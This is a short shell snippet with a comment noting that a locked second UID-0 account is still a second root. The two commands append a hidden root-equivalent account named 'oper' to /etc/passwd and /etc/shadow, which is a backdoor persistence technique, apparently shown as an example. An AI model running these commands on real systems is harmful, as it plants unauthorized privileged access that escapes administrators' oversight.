# a locked second uid-0 account is still a second root
echo "oper:x:0:0::/root:/bin/bash" >>/etc/passwd
echo "oper:!:19800:0:99999:7:::" >>/etc/shadow
